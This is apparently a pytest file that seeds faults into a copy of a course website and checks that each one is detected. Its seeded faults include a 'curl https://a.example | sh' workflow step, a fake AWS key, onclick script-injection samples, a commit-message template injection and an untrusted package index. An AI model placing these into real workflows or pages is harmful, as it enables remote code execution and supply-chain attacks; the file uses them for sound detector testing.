"""Seeded faults that need no build of their own: each, applied alone to a copy, is found by one check."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from tests import checks, test_faults
from tests.checks import markup, prose, tools
from tests.conftest import ROOT, copy_project
from tests.test_faults import FAQ, LAB, PAGE, append, edit, remove, write

COURSE, PAPER = "docs/assets/stylesheets/course.css", "docs/assets/stylesheets/print.css"
PUBLISH, LABS = ".github/workflows/publish.yml", ".github/workflows/labs.yml"
ICON = "overrides/.icons/units/assistant.svg"
Change = Callable[[Path], None]


def sub(path: str, pattern: str, new: str) -> Change:
    """Replace what a pattern finds first."""

    def change(project: Path) -> None:
        file = project / path
        text = file.read_text(encoding="utf-8")
        changed = re.sub(pattern, new, text, count=1, flags=re.MULTILINE | re.DOTALL)
        assert changed != text, f"{path} does not hold {pattern!r}; mend this fault"
        file.write_text(changed, encoding="utf-8")

    return change


def rule(path: str, text: str) -> Change:
    return append(path, f"\n{text}\n")


def seed_alike(project: Path) -> None:
    """Give the second figure of a lab the alt text of the first."""
    path = project / LAB
    raw = json.loads(path.read_text(encoding="utf-8"))
    mark = "#| fig-alt: "
    lines = [(cell, at) for cell in raw["cells"] for at, line in enumerate(cell["source"]) if line.startswith(mark)]
    (first, at), (second, other) = lines[:2]
    second["source"][other] = first["source"][at]
    path.write_text(json.dumps(raw), encoding="utf-8")


FAULTS: list[tuple[str, str, Change, list[str]]] = [
    # Words of pages
    ("American date", "slips", append(PAGE, "\nRead on 11/27/2026.\n"), [PAGE + ":", "'11/27/2026' is a date"]),
    ("date in words", "slips", append(PAGE, "\nOn November 27, 2026.\n"), [PAGE + ":", "'November 27, 2026' is"]),
    ("day to come", "slips", sub(FAQ, "^Checked 20..", "Checked 2999"), [FAQ + ":", "is still to come"]),
    ("day of no calendar", "slips", append(FAQ, "\nRead on 2026-02-30.\n"), [FAQ + ":", "'2026-02-30' is no day"]),
    (
        "data checked in the future",
        "slips",
        sub("docs/faq/stores.yml", "^checked: 20..", "checked: 2999"),
        ["docs/faq/stores.yml:5", "is still to come"],
    ),
    ("letters of two alphabets", "slips", append(PAGE, "\nA n\u0435twork.\n"), [PAGE + ":", "two alphabets"]),
    ("address of a person", "slips", append(PAGE, "\nAsk ada@mail.com.\n"), [PAGE + ":", "'ada@mail.com'"]),
    ("secret", "slips", append(PAGE, "\nIt is `AKIA" + 16 * "A" + "`.\n"), [PAGE + ":", "reads as a secret"]),
    ("misspelt key", "slips", sub(PAGE, "^feature:", "feture:"), [PAGE + ":3", "'feture'"]),
    (
        "key that stands twice",
        "slips",
        sub(PAGE, "^feature:", "title: B\nfeature:"),
        [PAGE + ":2", "'title' stands twice"],
    ),
    ("page that is hidden", "slips", sub(PAGE, "^feature:", "robots: noindex\nfeature:"), [PAGE + ":3", "'robots'"]),
    ("minutes that are stated", "template", sub(PAGE, "^feature:", "minutes: 9\nfeature:"), [PAGE, "the build counts"]),
    ("answers out of turn", "slips", edit(PAGE, "to exercise 3", "to exercise 2"), [PAGE + ":", "where 3 is its turn"]),
    ("exercise of no lab", "slips", edit(PAGE, "exercise 2 of the lab", "exercise 9 of the lab"), [PAGE + ":", "9"]),
    (
        "abbreviation that stands twice",
        "slips",
        append("includes/abbreviations.md", "*[SVM]: Some other machine\n"),
        ["includes/abbreviations.md", "'SVM' stands 2 times"],
    ),
    (
        "abbreviation that nobody uses",
        "slips",
        append("includes/abbreviations.md", "*[XYZZY]: Nothing\n"),
        ["includes/abbreviations.md", "no page says 'XYZZY'"],
    ),
    (
        "term that stands twice",
        "slips",
        sub("docs/glossary.md", r"^(Overfitting.*?)\n:   ", r"\1\n:   Once.\n\n\1\n:   "),
        ["docs/glossary.md", "'Overfitting", "2 times"],
    ),
    ("name of a file", "slips", write("docs/lesson/New Page.md", "# New\n"), ["docs/lesson/New Page.md: name it"]),
    ("alt text of another figure", "figures", seed_alike, [LAB, "alt text", "as well"]),
    (
        "number of another result of the same value",
        "alike",
        edit(FAQ, "#name-fusion)", "#name-words)"),
        [FAQ + ":", "leads to 'name-words'", "has name-fusion"],
    ),
    (
        "number of another lab",
        "alike",
        edit(PAGE, "large-datasets.ipynb#leaning-6400", "first-network.ipynb#network-error"),
        [PAGE + ":", "leads to 'first-network#network-error'"],
    ),
    ("answer that lies open", "prose", edit(PAGE, "??? question", "???+ question"), [PAGE + ":", "lies open"]),
    (
        "heading with nothing below",
        "prose",
        edit(PAGE, "\n## How it", "\n### More\n\n## How it"),
        [PAGE + ":", "'More'"],
    ),
    (
        "heading with capitals",
        "prose",
        append(PAGE, "\n## How The Steps Work\n\nThey do.\n"),
        [PAGE + ":", "capitals within"],
    ),
    (
        "sentence that does not end",
        "prose",
        sub(PAGE, r"^(Deep learning does best.*?)\.\n\n", r"\1\n\n"),
        [PAGE + ":", "ends without a mark"],
    ),
    (
        "paragraph that stands twice",
        "prose",
        sub(PAGE, r"^(Deep learning does best.*?)\n\n", r"\1\n\n\1\n\n"),
        [PAGE + ":", "too; leave one"],
    ),
    (
        "row that stands twice",
        "prose",
        sub("docs/teach.md", r'(\| "Fine-tuning cannot[^\n]*\n)', r"\1\1"),
        ["docs/teach.md:", "too; leave one"],
    ),
    (
        "name of another page",
        "named",
        edit("docs/teach.md", "[A first network](lesson/first-network", "[A first network](lesson/large-datasets"),
        ["docs/teach.md:", "'a first network' leads to lesson/large-datasets.md"],
    ),
    (
        "term of another entry",
        "named",
        sub(PAGE, r"glossary\.md#validation-set", "glossary.md#test-set"),
        [PAGE + ":", "leads to the term 'test-set'; lead it to 'validation-set'"],
    ),
    (
        "question of another answer",
        "named",
        edit(FAQ, "What are vector databases?](#q9)", "What are vector databases?](#q6)"),
        [FAQ + ":", "leads to faq/retrieval.md#q6"],
    ),
    (
        "identifier of another source",
        "named",
        edit("docs/references.md", "arxiv.org/abs/1610.01644", "arxiv.org/abs/1610.01664"),
        ["docs/references.md:", "'arXiv:1610.01644' leads to"],
    ),
    (
        "host that cannot be",
        "named",
        append(PAGE, "\n[It](https://arxiv.orgg/abs)\n"),
        [PAGE + ":", "no host is arxiv.orgg"],
    ),
    (
        "card with another number of its lab",
        "named",
        edit(LAB, "headline: cluttered-cnn", "headline: cluttered-raw"),
        ["docs/labs/index.md: the card of automatic-feature", "'headline'"],
    ),
    (
        "wrong count",
        "named",
        edit("docs/index.md", "the fifteen labs", "the sixteen labs"),
        ["docs/index.md:", "there are 5 or 15"],
    ),
    (
        "number that the lab does not have",
        "unlinked",
        edit(PAGE, "From 1,200 of them", "From 1,300 of them"),
        [PAGE + ":", "'1,300' is nowhere in docs/labs/large-datasets.ipynb"],
    ),
    (
        "font of another version",
        "vendored",
        edit("docs/assets/vendored.json", '"version": "5', '"version": "9'),
        ["docs/assets/fonts/course-serif.woff2", "scripts/vendor.yml"],
    ),
    (
        "overview in another order",
        "named",
        sub("mkdocs.yml", r"( +- faq/training-data.md)\n( +- faq/prompts\S+)", r"\2\n\1"),
        ["docs/faq/index.md:", "where the nav of mkdocs.yml has"],
    ),
    (
        "page without its contents",
        "named",
        sub(PAGE, "^feature:", "hide:\n  - toc\nfeature:"),
        [PAGE, "its 'hide' is ['toc']"],
    ),
    (
        "hash that is cut off",
        "pins",
        sub("requirements.txt", r"(sha256:[0-9a-f]{60})[0-9a-f]{4}", r"\1"),
        ["which is no hash"],
    ),
    (
        "slip that the speller is told to know",
        "words",
        lambda project: (
            append("tests/tools/words.txt", "sentense\n")(project),
            append(PAGE, "\nA short sentense.\n")(project),
        )[0],
        ["tests/tools/words.txt:", "'sentense' reads as a slip in 'sentence'"],
    ),
    (
        "part of a page without a name",
        "blocks",
        edit("overrides/partials/onward.html", ' aria-label="From here"', ""),
        ["overrides/partials/onward.html:", "aria-label"],
    ),
    (
        "paper on the screen",
        "blocks",
        edit("overrides/main.html", ' media="print"', ""),
        ["overrides/main.html:", "look of paper"],
    ),
    (
        "title that may end its attribute",
        "blocks",
        edit("overrides/partials/place.html", "step.title | striptags | e }}", "step.title }}"),
        ["overrides/partials/place.html:", "striptags"],
    ),
    (
        "minutes of another page",
        "named",
        edit("docs/index.md", "    [? minutes](lesson/large-datasets.md)", "    [? minutes](lesson/image-model.md)"),
        ["docs/index.md:", "stands beside lesson/large-datasets.md"],
    ),
    (
        "answer that is related to itself",
        "named",
        sub(FAQ, r"(#q9 .*?^Related: \[[^\]]*\]\([^)]*#)q\d+", r"\1q9"),
        [FAQ + ": q9 is related to itself"],
    ),
    (
        "source out of order",
        "named",
        sub("docs/references.md", r"^Alain, ", "Zalain, "),
        ["docs/references.md:", "stands behind 'zalain'"],
    ),
    ("class that nothing styles", "looks", edit(PAGE, "{ .opening }", "{ .opning }"), [PAGE + ":", "'opning'"]),
    (
        "number of a diagram that nothing holds",
        "facts",
        sub("docs/assets/diagrams/doublings.svg", ' data-result="[^"]*"', ""),
        ["docs/assets/diagrams/doublings.svg: has", "data-result"],
    ),
    ("run that is to come", "facts", sub(LAB, '"date": "20', '"date": "29'), [LAB, "still to come"]),
    ("day before the run", "facts", sub(FAQ, r"^Checked 20\d\d", "Checked 2020"), [FAQ + ":", "is before its lab ran"]),
    (
        "use without a source",
        "named",
        edit(PAGE, " ([Sun and others, 2020](../references.md#sun-2020))", ""),
        [PAGE, "has no year or no source"],
    ),
    (
        "answer to another exercise",
        "labs",
        edit(LAB, "Answer to exercise 3", "Answer to exercise 2"),
        [LAB, "asks exercises 1, 2, 3, 4 and answers 1, 2, 4"],
    ),
    (
        "page of another title",
        "named",
        sub(PAGE, r"^title: Large datasets", "title: Big data"),
        ["docs/index.md:", "calls large-datasets.md 'Large datasets', its title is 'Big data'"],
    ),
    (
        "font of nobody",
        "assets",
        write("docs/assets/fonts/other.ttf", "x"),
        ["docs/assets/fonts/other.ttf: files of this"],
    ),
    (
        "source by another name",
        "citations",
        append(PAGE, "\n[Brown, 2020](../references.md#brown-2020)\n"),
        [PAGE, "write 'Brown and others, 2020'"],
    ),
    (
        "feature that is misspelt",
        "features",
        edit("mkdocs.yml", "navigation.top\n", "navigation.topp\n"),
        ["topp'; correct"],
    ),
    ("code that was edited", "labs", sub(LAB, r'"import numpy', '"import numpy  '), [LAB, "its code changed"]),
    ("point that is gone", "lesson", edit("tests/lesson/points.yml", "D1:", "D9:"), ["point D1 is missing"]),
    (
        "packages that were typed",
        "run",
        edit("docs/labs/run-the-labs.md", "numpy, torch |", "torch |"),
        ["run-the-labs.md: has no"],
    ),
    ("row without a cell", "markdown", append(PAGE, "\n| a | b |\n|---|---|\n| 1 |\n"), [PAGE + ":", "MD056"]),
    ("link that says here", "markdown", append(PAGE, "\nSee [here](index.md).\n"), [PAGE + ":", "MD059"]),
    ("American spelling", "spelling", append(PAGE, "\nThe color of it.\n"), [PAGE + ":", "color"]),
    ("feature of another page", "template", sub(PAGE, "^feature: .*?$", "feature: 9"), [PAGE, "'feature' is 9"]),
    ("answer of no day", "faq", sub(FAQ, "^Checked [^:]*", "Tried"), [FAQ + ": q", "has no line 'Checked"]),
    # Configuration
    (
        "name of its own in the menu",
        "nav",
        edit("mkdocs.yml", "- lesson/large-datasets.md", "- Big data: lesson/large-datasets.md"),
        ["mkdocs.yml:", "'Big data'"],
    ),
    (
        "minutes that were typed",
        "hours",
        sub("docs/lesson/index.md", r"\[\? minutes\]\([^)]*\)", "30 minutes"),
        ["docs/lesson/index.md:", "'30 minutes' is typed"],
    ),
    (
        "answer that suits everybody",
        "faq",
        edit("docs/faq/retrieval.md", "**When this is not for you", "**Note"),
        ["docs/faq/retrieval.md: q9", "When this is not for you"],
    ),
    (
        "units out of order",
        "nav",
        sub("mkdocs.yml", r"( +- lesson/large\S+)\n( +- lesson/transfer\S+)", r"\2\n\1"),
        ["mkdocs.yml:", "nav has the lab large-datasets where the lesson has transfer-learning"],
    ),
    (
        "snippets from other hosts",
        "config",
        edit("mkdocs.yml", "url_download: false", "url_download: true"),
        ["mkdocs.yml:", "url_download' must be false"],
    ),
    # Checkers that look away
    (
        "rule that is off",
        "settings",
        edit("tests/tools/.stylelintrc.json", '    "color-named": "never",\n', ""),
        ["tests/tools/.stylelintrc.json:5: 'rules'", "restore it"],
    ),
    (
        "limit that is wider",
        "settings",
        edit("pyproject.toml", "length = 120", "length = 200"),
        ["pyproject.toml:", "ruff"],
    ),
    (
        "finding in the theme that is let pass",
        "settings",
        edit("tests/tools/htmlvalidate.mjs", '"wcag/h32": "off"', '"wcag/h32": "off", "wcag/h30": "off"'),
        ["tests/tools/htmlvalidate.mjs:1: is not as it was", "why"],
    ),
    (
        "feature of the theme that is gone",
        "settings",
        edit("mkdocs.yml", "    - navigation.instant.progress\n", ""),
        ["mkdocs.yml:", "'theme'"],
    ),
    (
        "old address that is gone",
        "settings",
        sub("mkdocs.yml", r"^    labs/servers?[^\n]*\n|^    labs/safe[^\n]*\n", ""),
        ["mkdocs.yml:", "'extra'"],
    ),
    (
        "licence of another version",
        "settings",
        edit("mkdocs.yml", "CC BY 4.0", "CC BY 3.0"),
        ["mkdocs.yml:", "'copyright'"],
    ),
    (
        "record that may hold anything",
        "settings",
        edit(
            "overrides/hooks/course/notebook/results.yml", "additionalProperties: false", "additionalProperties: true"
        ),
        ["results.yml:", "'Result'"],
    ),
    ("day that never comes", "settings", edit(LABS, "17 4 * * 1", "17 4 31 2 *"), [LABS + ":", "'on'"]),
    (
        "host without a policy",
        "settings",
        edit("deploy/nginx.conf", "$policy_of_page always", "$policy_of_page"),
        ["deploy/nginx.conf:1"],
    ),
    (
        "part of the gate left out",
        "settings",
        edit("scripts/test", '--dist loadgroup "$@"', '--dist loadgroup -m fast "$@"'),
        ["scripts/test:1"],
    ),
    (
        "finding that is silenced",
        "silenced",
        append("overrides/hooks/pages.py", "\nX = 1  # noqa: E305\n"),
        ["overrides/hooks/pages.py:", "has 'noqa'"],
    ),
    (
        "test that is skipped",
        "silenced",
        edit(
            "tests/test_reading.py",
            "import pytest\n",
            'import pytest\n\npytest.skip("later", allow_module_level=True)\n',
        ),
        ["tests/test_reading.py:", "has 'pytest.skip'"],
    ),
    (
        "exit status that is lost",
        "silenced",
        edit("scripts/test", '"$@"\n', '"$@" || true\n'),
        ["scripts/test:1", "|| true"],
    ),
    (
        "limit of a check",
        "facts",
        edit("tests/checks/reading.py", "GRADE = 9.0", "GRADE = 19.0"),
        ["reading.py:14: GRADE"],
    ),
    (
        "limit in words",
        "facts",
        edit("CONTRIBUTING.md", "at most 35 words", "at most 45 words"),
        ["CONTRIBUTING.md", "35"],
    ),
    (
        "test that asserts nothing",
        "asserted",
        append("tests/test_reading.py", "\n\ndef test_nothing() -> None:\n    reading.grade([])\n"),
        ["tests/test_reading.py:", "test_nothing asserts nothing"],
    ),
    (
        "test that is not called one",
        "code",
        sub("tests/test_reading.py", r"^def test_", "def later_"),
        ["tests/test_reading.py:", "nothing calls later_"],
    ),
    (
        "exit status that nobody sees",
        "holds",
        edit("scripts/labs", 'sys.exit("\\n".join(faults))', 'print("\\n".join(faults))'),
        ["scripts/labs:", "a lab that fails"],
    ),
    (
        "preview for everybody",
        "holds",
        edit("scripts/serve", 'default="127.0.0.1:8000"', 'default="0.0.0.0:8000"'),
        ["scripts/serve: no longer has", "this machine alone"],
    ),
    # Facts
    (
        "engine of another version",
        "facts",
        sub(FAQ, r"SQLite 3\.40\.1", "SQLite 3.39.1"),
        [FAQ + ":", "'SQLite 3.39.1' did not run in search-and-retrieval"],
    ),
    (
        "generator of another version",
        "facts",
        edit("ARCHITECTURE.md", "MkDocs 1.6,", "MkDocs 1.5,"),
        ["ARCHITECTURE.md:", "1.5"],
    ),
    (
        "package of another version",
        "facts",
        edit("docs/labs/run-the-labs.md", "l6-v2==0.1.0", "l6-v2==0.2.0"),
        ["docs/labs/run-the-labs.md:", "locks of the labs"],
    ),
    (
        "run with what was not installed",
        "facts",
        sub(LAB, r'"numpy": "[^"]*"', '"numpy": "9.9.9"'),
        [LAB, "ran with numpy 9.9.9"],
    ),
    (
        "kernel of a person",
        "facts",
        edit(LAB, '"display_name": "Python 3"', '"display_name": "Ada"'),
        [LAB, "another kernel"],
    ),
    (
        "alt text that says little",
        "facts",
        sub(LAB, r'#\| fig-alt: [^\n]*\\n"', r'#| fig-alt: A chart with lines\\n"'),
        [LAB, "fewer than 15"],
    ),
    (
        "number that a diagram does not draw",
        "facts",
        edit("docs/assets/diagrams/neuron.svg", "The sum 1.5 is", "The sum 1.7 is"),
        ["docs/assets/diagrams/neuron.svg: its <desc> says 1.7"],
    ),
    (
        "diagram without a caption",
        "facts",
        sub(PAGE, r'(doublings\.svg) "[^"]*"', r"\1"),
        [PAGE + ":", "has no caption"],
    ),
    # Styles
    ("pale words", "contrast", sub(COURSE, "--ink-soft: #545c66", "--ink-soft: #8a929c"), [COURSE + ":", "in light"]),
    (
        "dark words on dark",
        "contrast",
        sub(COURSE, "--learnt: #4fc3c7", "--learnt: #1f5357"),
        [COURSE + ":", "in dark"],
    ),
    ("colour that is none", "contrast", sub(COURSE, "--rose: #a8326b", "--rose: rosy"), [COURSE, "no colour 'rosy'"]),
    ("misspelt variable", "names", rule(COURSE, "em {\n  color: var(--inc);\n}"), [COURSE + ":", "nothing sets --inc"]),
    ("variable that nobody reads", "names", sub(COURSE, "  --rose:", "  --mauve: #a8326b;\n  --rose:"), ["--mauve"]),
    ("class that nothing has", "names", rule(COURSE, ".no-such-part {\n  margin: 0;\n}"), [COURSE, "'no-such-part'"]),
    ("no outline", "css", rule(COURSE, "a:focus-visible {\n  outline: none;\n}"), [COURSE + ":", '"outline"']),
    ("hard colour", "css", rule(COURSE, "em {\n  color: #888;\n}"), [COURSE + ":", '"#888"']),
    ("important", "css", rule(COURSE, "em {\n  margin: 0 !important;\n}"), [COURSE + ":", "!important"]),
    ("forced colours", "css", rule(COURSE, "em {\n  forced-color-adjust: none;\n}"), [COURSE + ":", "forced-color"]),
    ("letters in pixels", "css", rule(COURSE, "em {\n  font-size: 6px;\n}"), [COURSE + ":", '"px"']),
    ("motion", "css", rule(COURSE, "em {\n  transition: all 3s;\n}"), [COURSE + ":", '"transition"']),
    ("words that paper lacks", "css", rule(PAPER, ".md-typeset {\n  visibility: hidden;\n}"), [PAPER, '"visibility"']),
    (
        "ring in the colour of the page",
        "looks",
        edit(COURSE, "solid var(--rival);", "solid var(--paper);"),
        [COURSE + ":", "the ring"],
    ),
    ("no ring", "looks", sub(COURSE, r"outline: 2px solid[^;]*;", "outline: 1px solid var(--rival);"), [COURSE, "2px"]),
    (
        "border of another colour",
        "looks",
        rule(COURSE, "hr {\n  border: 1px solid #ccc;\n}"),
        [COURSE + ":", "colour of its own"],
    ),
    ("small letters", "looks", rule(COURSE, "hr {\n  font-size: 0.3rem;\n}"), [COURSE + ":", "nobody can read"]),
    (
        "target of a few pixels",
        "looks",
        edit(COURSE, "min-height: 24px", "min-height: 12px"),
        [COURSE + ":", "for a finger"],
    ),
    ("words that fade", "looks", rule(COURSE, "hr {\n  opacity: 0.3;\n}"), [COURSE + ":", "words that fade"]),
    (
        "foot that is hidden",
        "looks",
        rule(COURSE, ".md-footer {\n  display: none;\n}"),
        [COURSE + ":", "hides '.md-footer'"],
    ),
    # Workflows, locks, documents, the host
    ("gate left out", "steps", edit(PUBLISH, "      - run: scripts/test\n", ""), [PUBLISH, "must run scripts/test"]),
    ("untested site", "steps", edit(PUBLISH, "    needs: test\n", ""), [PUBLISH, "'needs: test'"]),
    ("site of a change", "steps", sub(PUBLISH, "    if: github[^\n]*\n", ""), [PUBLISH, "job 'deploy' publishes"]),
    (
        "foreign script",
        "steps",
        edit(LABS, "scripts/labs --check", "curl https://a.example | sh"),
        [LABS + ":", "curl"],
    ),
    (
        "script that is not there",
        "steps",
        edit(PUBLISH, "scripts/pdf", "scripts/book"),
        [PUBLISH + ":", "scripts/book"],
    ),
    ("job without end", "steps", edit(LABS, "    timeout-minutes: 120\n", ""), [LABS, "'timeout-minutes'"]),
    ("rights for others", "steps", edit(PUBLISH, "pull_request:", "pull_request_target:"), [PUBLISH + ":", "rights"]),
    ("release of another commit", "actions", edit(LABS, "# v6.0.0", "# v6.1.0"), [LABS + ":", "setup-python v6.1.0"]),
    (
        "commit of another release",
        "actions",
        sub(PUBLISH, "pages-artifact@[0-9a-f]+", f"pages-artifact@{40 * 'a'}"),
        [PUBLISH + ":", "upload-pages-artifact v4.0.0 is 7b1f4a", "correct one"],
    ),
    ("icon without a frame", "icons", sub(ICON, ' viewBox="[^"]*"', ""), [ICON, "has no viewBox"]),
    ("icon of another colour", "icons", edit(ICON, "<svg ", '<svg fill="#f00" '), [ICON, 'fill="#f00"']),
    (
        "list of another checker",
        "npm",
        sub("tests/tools/package.json", '"eslint": "[^"]*', '"eslint": "^99'),
        ["eslint ^99"],
    ),
    (
        "offline key",
        "config",
        edit("mkdocs-offline.yml", "site_dir:", "site_dri:"),
        ["mkdocs-offline.yml: ", "site_dri"],
    ),
    ("machine of the day", "steps", edit(LABS, "ubuntu-24.04", "ubuntu-latest"), [LABS + ":", "name its version"]),
    ("another floor", "floor", edit("README.md", "Python 3.11.2", "Python 3.9"), ["README.md: does not say 'Python 3"]),
    ("older Python", "floor", edit(LABS, 'python-version: "3.11"', 'python-version: "3.9"'), [LABS, "does not say"]),
    (
        "function that nobody calls",
        "code",
        append("overrides/hooks/course/formulas.py", "\n\ndef never_called() -> None:\n    pass\n"),
        ["overrides/hooks/course/formulas.py:", "nothing calls never_called"],
    ),
    (
        "encoding of the machine",
        "code",
        append("overrides/hooks/course/formulas.py", "\n\nTEXT = Path('a').read_text()\n"),
        ["overrides/hooks/course/formulas.py:", 'add encoding="utf-8"'],
    ),
    (
        "words of others in a command",
        "workflows",
        edit(LABS, "scripts/labs --check", 'echo "${{ github.event.head_commit.message }}"'),
        [LABS + ":", "template-injection"],
    ),
    (
        "version without a hash",
        "pins",
        sub("requirements.txt", r"^(click==\S+) \\\n(?:    --hash=\S+(?: \\)?\n)+", r"\1\n"),
        ["requirements.txt", "click==", "has no hash"],
    ),
    (
        "another index",
        "pins",
        sub("requirements-dev.txt", r"\A", "--extra-index-url https://pypi.example\n"),
        ["requirements-dev.txt", "--extra-index-url"],
    ),
    (
        "locks that part",
        "pins",
        sub("requirements-dev.txt", "^click==", "click==0"),
        ["requirements-dev.txt", "of click, requirements.txt"],
    ),
    (
        "package of nobody's list",
        "imports",
        append("overrides/hooks/course/formulas.py", "\nimport numpy\n"),
        ["overrides/hooks/course/formulas.py:", "imports numpy"],
    ),
    ("block of another name", "blocks", edit("overrides/main.html", "block header", "block haeder"), ["haeder"]),
    (
        "command that is not there",
        "repository",
        edit("README.md", "scripts/serve ", "scripts/preview "),
        ["README.md:"],
    ),
    (
        "option that is not there",
        "repository",
        edit("README.md", "build --offline` a", "build --ofline` a"),
        ["README.md:", "--ofline"],
    ),
    (
        "module of another name",
        "repository",
        edit("ARCHITECTURE.md", "`hovering.py`", "`hover.py`"),
        ["ARCHITECTURE.md:", "hover.py"],
    ),
    (
        "name that no code has",
        "repository",
        edit("CONTRIBUTING.md", "`COURSE_PICTURES=1`", "`COURSE_PICTURE=1`"),
        ["CONTRIBUTING.md:", "COURSE_PICTURE"],
    ),
    (
        "function that no code has",
        "repository",
        edit("CONTRIBUTING.md", "`claim(ax", "`no_such_claim(ax"),
        ["CONTRIBUTING.md:", "no_such_claim"],
    ),
    ("dead link of the readme", "repository", edit("README.md", "(LICENSE)", "(LICENCE)"), ["README.md:", "LICENCE"]),
    ("licence of another kind", "repository", append("LICENSE", "For friends only.\n"), ["LICENSE: is not"]),
    ("licence that is gone", "repository", remove("LICENSE-CONTENT"), ["LICENSE-CONTENT: does not name"]),
    (
        "page that moved to nowhere",
        "moved",
        edit("mkdocs.yml", ": labs/servers\n", ": labs/servants\n"),
        ["mkdocs.yml:", "labs/servants"],
    ),
    (
        "swallowed exception",
        "python",
        sub(
            "overrides/hooks/pages.py",
            r"except model\.Fault as fault:\n\s+log[^\n]+",
            "except Exception:\n        pass",
        ),
        ["overrides/hooks/pages.py:", "BLE001"],
    ),
    ("breakpoint", "python", append("overrides/hooks/pages.py", "\n\nbreakpoint()\n"), ["pages.py:", "T100"]),
    ("type that is let pass", "python", append("overrides/hooks/pages.py", "\n\nX = 1  # type: ignore\n"), ["PGH003"]),
    ("word for the shell", "python", append("scripts/labs", "\nsubprocess.run('ls', shell=True)\n"), ["S602"]),
]


@pytest.mark.parametrize(("name", "check", "change", "says"), FAULTS, ids=[fault[0] for fault in FAULTS])
def test_fault_is_found(name: str, check: str, change: Change, says: list[str], site: Path, tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    change(project)
    said = checks.run(project, site, [check])
    assert [line for line in said if all(part in line for part in says)], "\n".join(said[-25:])


@pytest.mark.parametrize(
    ("sentence", "says"),
    [
        ("This is a error.", "'a error' has the other article"),
        ("It is an network.", "'an network' has the other article"),
        ("It learns , and stops.", "has a space that stands wrong"),
        ("It learns.Then it stops.", "has a space that stands wrong"),
        ("It learns.. It stops.", "has a mark that stands twice"),
        ("It learns (as we saw.", "opens ( and does not close it"),
        ("It **learns.", "opens ** and does not close it"),
        ("It is better then that.", "has one word in place of another"),
        ("You could of known.", "has one word in place of another"),
        ("They generalize well.", "'generalize' is spelt the American way"),
        ("It is state-of-the-art.", "has praise that says nothing"),
        ("So it is [citation needed].", "has a note to ourselves"),
        ("It learns!", "has an exclamation mark"),
    ],
)
def test_slip_in_a_sentence_is_found(sentence: str, says: str) -> None:
    assert [fault for fault in prose.sentences(sentence) if says in fault]


def test_sound_sentence_has_no_slip() -> None:
    assert list(prose.sentences("See [the paper](https://a.example/b), or https://a.example/d,e.")) == []
    words = "An hour of an MLP, a unit, e.g. (see [that](a.md#b)): 'the size', \"it's 1.5\"; **a user's** prize."
    assert list(prose.sentences(words)) == []
    assert list(prose.layout("# A title of the MNIST kind\n\nWords.\n")) == []


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("It learns \u2014 and stops.", "has '\u2014'"),
        ('!!! danger "Stop"\n    It learns.', "is a note of no kind"),
        ("See [this][that].", "is a link by reference"),
        ("It learns :rocket: well.", "is a picture sign"),
        ("It learns.\n\n[^one]: Once.\n", "nothing leads to the footnote 'one'"),
    ],
)
def test_slip_of_layout_is_found(text: str, says: str) -> None:
    assert [fault for _, fault in prose.layout(text) if says in fault]


def test_speller_reads_what_stands_in_drawings_templates_and_lists() -> None:
    read = {path.relative_to(ROOT).as_posix(): words for path, words in tools.told(ROOT)}
    assert "The activation function ReLU" in read["docs/assets/diagrams/neuron.svg"]
    assert "<" not in read["docs/assets/diagrams/neuron.svg"]
    assert "This page does not exist" in read["overrides/404.html"]
    assert "relational with vectors" in read["docs/faq/stores.yml"]


# Of a built page: the check that reads it, what is changed, and what the check must say.
BUILT: list[tuple[str, str, str, list[str]]] = [
    ("anchors", "</article>", '<a href="../gone/">x</a></article>', [PAGE, "../gone/"]),
    ("documents", "<h1", "<h1>Two</h1><h1", [PAGE, "2 h1 headings"]),
    ("foreign", "</article>", '<img alt="" src="https://a.example/a.png"></article>', [PAGE, "a.example"]),
    ("hours", 'class="eyebrow"', 'class="brow"', [PAGE, "how long it takes"]),
    ("markup", "</article>", '<p onclick="alert(1)">x</p></article>', [PAGE, "onclick"]),
    ("traces", "</article>", "<p>TODO</p></article>", [PAGE, "a note to ourselves"]),
]


@pytest.mark.parametrize(("check", "old", "new", "says"), BUILT, ids=[fault[0] for fault in BUILT])
def test_fault_of_a_built_page_is_found(
    check: str, old: str, new: str, says: list[str], site: Path, tmp_path: Path
) -> None:
    """One page of the site alone: what else the check misses there is not asked."""
    page = tmp_path / "lesson/large-datasets/index.html"
    shutil.copytree(site / "lesson/large-datasets", page.parent)
    text = page.read_text(encoding="utf-8")
    assert old in text
    assert not [line for line in checks.run(ROOT, tmp_path, [check]) if all(part in line for part in says)]
    page.write_text(text.replace(old, new, 1), encoding="utf-8")
    said = checks.run(ROOT, tmp_path, [check])
    assert [line for line in said if all(part in line for part in says)], "\n".join(said[-25:])


def test_page_that_search_does_not_know_is_found(site: Path, tmp_path: Path) -> None:
    for name in ("lesson/large-datasets", "search"):
        shutil.copytree(site / name, tmp_path / name)
    shutil.copytree(site / "lesson/large-datasets", tmp_path / "lesson/new")
    said = checks.run(ROOT, tmp_path, ["search"])
    assert [fault for fault in said if "lesson/new/index.html: is not in the search index" in fault], said[-25:]


def test_each_check_has_a_fault_of_its_own() -> None:
    """A check that returns nothing, whatever it reads, would find nothing for ever."""
    seeded = {check for _, check, *_ in FAULTS} | {check for check, *_ in BUILT} | {"search"}
    seeded |= {check for fault in test_faults.FAULTS for check in fault.tools}
    assert sorted({*checks.CHECKS, *checks.TOOLS} - seeded) == []


@pytest.mark.parametrize(
    ("html", "says"),
    [
        ('<p onclick="alert(1)">x</p>', "<p onclick>, which the policy stops"),
        ('<nav aria-lable="Units">x</nav>', "<nav aria-lable>, which is no attribute"),
        ('<p style="color: red">x</p>', "<p style='color: red'>; write a rule"),
        ('<a href="http://a.example/">x</a>', "leads to http://a.example/ by http"),
        ("<article><p>Said so[^9].</p></article>", "a footnote that nothing defines: '[^9]'"),
        ("<article><p>a\n&gt;&gt;&gt;&gt;&gt;&gt;&gt; main</p></article>", "a mark of a merge"),
        ("<article><p>a\u200bb</p></article>", "a character that nobody sees"),
        ("<article><p>At the\nthe end.</p></article>", "says 'the' twice"),
        ('<meta name="robots" content="noindex">', "keeps search engines away"),
        ('<meta http-equiv="refresh" content="0;url=/">', "is sent on"),
        ('<meta name="viewport" content="width=device-width,user-scalable=no">', "keeps readers from enlarging"),
        ("<article><table><tr><th></th><th>b</th></tr></table></article>", "a column of the table '| b' has no name"),
        ("<article><!-- ask Ada --></article>", "publishes the comment 'ask Ada'"),
